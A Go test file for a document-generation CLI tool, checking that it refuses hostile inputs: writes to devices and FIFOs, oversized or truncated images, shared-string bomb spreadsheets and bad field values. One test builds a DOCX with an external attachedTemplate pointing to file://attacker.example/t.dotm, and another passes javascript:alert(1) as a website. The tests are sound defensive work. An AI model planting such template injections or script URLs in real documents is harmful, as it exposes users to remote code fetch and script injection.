package main

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/rolepack/rolepack/internal/hostile"
)

// Issue 32's command-line cases: each ends in a result or a one-line
// error, within seconds, damaging nothing.

// TestImportRefusesDevicesAndFIFOs: import -o /dev/null --force replaced
// the device with a regular file and wrote framework.schema.json into
// /dev; a device or FIFO target is refused, --force or not, and nothing is
// written beside it.
func TestImportRefusesDevicesAndFIFOs(t *testing.T) {
	dir := t.TempDir()
	src := filepath.Join(dir, "skills.csv")
	os.WriteFile(src, []byte("Skill,Level,Descriptor\nData modelling,1,Draws models\n"), 0o644)
	targets := map[string]string{"fifo": filepath.Join(dir, "fifo.yaml")}
	if err := syscall.Mkfifo(targets["fifo"], 0o600); err != nil {
		t.Skip(err)
	}
	dev := filepath.Join(dir, "null.yaml")
	if err := syscall.Mknod(dev, syscall.S_IFCHR|0o666, 1<<8|3); err == nil { // /dev/null's numbers, as root
		targets["device"] = dev
	}
	for what, p := range targets {
		for _, force := range []bool{false, true} {
			args := []string{"import", src, "-o", p}
			if force {
				args = append(args, "--force")
			}
			_, _, err := run(t, nil, args...)
			if err == nil || !strings.Contains(err.Error(), "rolepack writes only regular files") || strings.Contains(err.Error(), "\n") {
				t.Errorf("%s (force %v): err = %v", what, force, err)
			}
			if fi, err := os.Lstat(p); err != nil || fi.Mode().IsRegular() {
				t.Errorf("%s was replaced", what)
			}
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "framework.schema.json")); err == nil {
		t.Error("framework.schema.json written beside a non-regular target")
	}
}

// TestBrandCheckReportsRemoved: a letterhead's external attachedTemplate
// was copied into every DOCX and brand check said nothing.
func TestBrandCheckReportsRemoved(t *testing.T) {
	dir := t.TempDir()
	p := writeLetterhead(t, dir)
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if f.Name == "word/_rels/document.xml.rels" {
			b = bytes.Replace(b, []byte("</Relationships>"), []byte(`<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file://attacker.example/t.dotm" TargetMode="External"/></Relationships>`), 1)
		}
		w, _ := zw.Create(f.Name)
		w.Write(b)
	}
	zw.Close()
	evil := filepath.Join(dir, "evil.docx")
	os.WriteFile(evil, out.Bytes(), 0o644)
	stdout, _, err := run(t, nil, "brand", "check", evil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout, "removed: word/_rels/document.xml.rels: an external attachedTemplate relationship to file://attacker.example/t.dotm") {
		t.Errorf("brand check output:\n%s", stdout)
	}
}

// TestHostileInputsEndInOneLine: logos and workbooks that crashed or took
// gigabytes end in one line naming the file, within seconds.
func TestHostileInputsEndInOneLine(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, b []byte) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	side, cells := 30000, 3000
	if testing.Short() {
		side, cells = 8000, 300
	}
	full := hostile.PNG(100, 50)
	claim := write("claim.png", hostile.PNGClaiming(65535, 65535))
	huge := write("huge.png", hostile.PNG(side, side))
	trunc := write("trunc.png", full[:len(full)/2])
	sst := write("sst.xlsx", hostile.SharedStringBook([]string{"Skill", "Level", "Descriptor"}, 1<<20, cells))
	manifest := write("m.xlsx", hostile.SharedStringBook([]string{"reference", "role", "level", "title"}, 1<<20, cells))
	outDir := filepath.Join(dir, "out")
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"generate", "--doc", "jd", "--format", "pdf", "--out", outDir, "--set", "organisation.logo=" + claim}, claim + ": the image is 65535×65535 pixels"},
		{[]string{"generate", "--doc", "jd", "--format", "pdf", "--out", outDir, "--set", "organisation.logo=" + huge}, huge + ": the image is"},
		{[]string{"generate", "--doc", "jd", "--format", "pdf", "--out", outDir, "--set", "organisation.logo=" + trunc}, trunc + ": cannot decode the png image"},
		{[]string{"generate", "--doc", "advert", "--format", "md", "--out", outDir, "--set", "organisation.website=javascript:alert(1)"}, "organisation.website \"javascript:alert(1)\" is not a web address"},
		{[]string{"generate", "--doc", "scoring", "--format", "md", "--out", outDir, "--set", "scoring.max=-1"}, "scoring.max -1 is not from 1 to 50"},
		{[]string{"import", sst}, "xl/worksheets/sheet1.xml: its cells repeat shared strings"},
		{[]string{"pack", manifest, "--out", outDir}, "xl/worksheets/sheet1.xml: its cells repeat shared strings"},
	} {
		start := time.Now()
		_, stderr, err := run(t, fixedDate, c.args...)
		if el := time.Since(start); el > 10*time.Second {
			t.Errorf("%v: took %s", c.args, el)
		}
		msg := stderr
		if err != nil {
			msg += err.Error()
		}
		if err == nil || !strings.Contains(msg, c.want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%v: err = %v, stderr %q; want one line with %q", c.args[:2], err, stderr, c.want)
		}
	}
	if entries, _ := os.ReadDir(outDir); len(entries) > 0 {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("output written for refused input: %v", names)
	}
}
